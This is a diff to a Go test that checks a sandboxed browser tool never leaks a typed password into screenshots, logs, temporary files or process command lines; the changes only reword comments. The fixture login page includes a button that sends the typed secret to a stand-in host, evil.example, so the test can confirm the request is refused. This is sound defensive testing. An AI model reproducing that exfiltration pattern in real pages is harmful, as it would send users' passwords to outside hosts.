@@ -19,8 +19,8 @@ import (
 	"belljar.dev/internal/testenv"
 )
 
-// echoes is a login whose page shows what is typed in every way that it knows of. The secret is
-// told to the page alone, by the field.
+// echoes is a login page that shows what is typed, in every way that it knows. Only the
+// field gives the secret to the page.
 const echoes = `<!doctype html><title>Login</title><label>Password <input type=password id=p></label><label>Other <input id=q></label><p id=o style="font:bold 20px monospace;color:#f00"></p><div id=rest style="font:bold 20px monospace;color:#f00"></div>
 <button id=again>Again</button> <button onclick="alert('alert ' + v)">Alert</button> <button onclick="document.title = confirm('sure ' + v)">Confirm</button> <button onclick="document.title = prompt('name ' + v, v)">Prompt</button>
 <button onclick="window.open('/child?v=' + encodeURIComponent(v))">Window</button> <button onclick="location = 'http://evil.example:PORT/refused?' + encodeURIComponent(v)">Leave</button>
@@ -47,8 +47,9 @@ p.addEventListener("input", () => {
 });
 </script>`
 
-// TestSecretIsNowhere: a secret that was typed is in nothing that anybody gets, although the page
-// shows it in every way (BR28, BR29, BR-A29, BR-A30). It counts the places in which it looked.
+// TestSecretIsNowhere checks that a secret that was typed is in no text, picture, log, file
+// or command line outside the page, although the page shows it in every way (BR28, BR29,
+// BR-A29, BR-A30). The test counts the places in which it looked.
 func TestSecretIsNowhere(t *testing.T) {
 	testenv.Need(t, testenv.UserNamespaces, testenv.Chromium)
 	const value = "CanaryMMMM-7hunter2&Ww"
@@ -161,7 +162,7 @@ func TestSecretIsNowhere(t *testing.T) {
 		do("scroll", step)
 		n := red()
 		t.Logf("%d red pixels", n)
-		if n > 700 { // the letters of "link", "button" and the like stay red
+		if n > 700 { // letters of the page's own words, such as "link" and "button", stay red
 			t.Errorf("after %s the picture shows %d red pixels", step.Text, n)
 		}
 		places["picture, "+step.Text] = "painted"
@@ -183,7 +184,8 @@ func TestSecretIsNowhere(t *testing.T) {
 	do("stale", act.Step{Do: act.DoClick, Ref: ref("Again")})
 	look("changes after it", act.LookRequest{At: act.AtChanges})
 	do("refused document", act.Step{Do: act.DoClick, Ref: ref("Leave")})
-	// Keys copy nothing out of the field, and what they put elsewhere is masked (BR-A30).
+	// Keys copy nothing out of the field, and the text that they put elsewhere is masked
+	// (BR-A30).
 	other := s.ref(all, `text "Other"`)
 	for _, key := range []string{"Control+a", "Control+c", "Control+x"} {
 		do("key "+key, act.Step{Do: act.DoPress, Ref: password, Text: key})
@@ -227,8 +229,9 @@ func TestSecretIsNowhere(t *testing.T) {
 	t.Logf("%d places, 0 hits", len(places))
 }
 
-// processes are the command line of each process that this one has started, and what is in
-// the files of its /tmp, but for what Chrome itself keeps of the pages that it shows.
+// processes returns the command line of each process that this process has started, and the
+// content of the files in its /tmp, except the files in which Chrome keeps the pages that
+// it shows.
 func processes(t *testing.T) (all []string) {
 	t.Helper()
 	for _, pid := range descendants() {
@@ -240,7 +243,8 @@ func processes(t *testing.T) (all []string) {
 			if err == nil && d.IsDir() && (d.Name() == "profile" || d.Name() == "cache") {
 				return filepath.SkipDir
 			}
-			if err == nil && d.Type().IsRegular() && b.Len() < 64<<20 { // what cannot be read is no place
+			// a file that cannot be read does not count as a place
+			if err == nil && d.Type().IsRegular() && b.Len() < 64<<20 {
 				text, _ := os.ReadFile(file)
 				b.WriteString(file + string(text))
 			}
@@ -253,8 +257,9 @@ func processes(t *testing.T) (all []string) {
 	return all
 }
 
-// descendants are the processes that this one has started, with theirs, and that still run. One
-// of a supervisor stays as long as that does.
+// descendants returns the PIDs of the running processes that this process and its
+// descendants have started. It leaves out the keeper of a supervisor, which runs as long as
+// the supervisor.
 func descendants() (all []int) {
 	for _, p := range testenv.Below(testenv.Processes(), os.Getpid()) {
 		if p.PID != os.Getpid() && p.State != "Z" && p.Name != "belljar-keeper" {
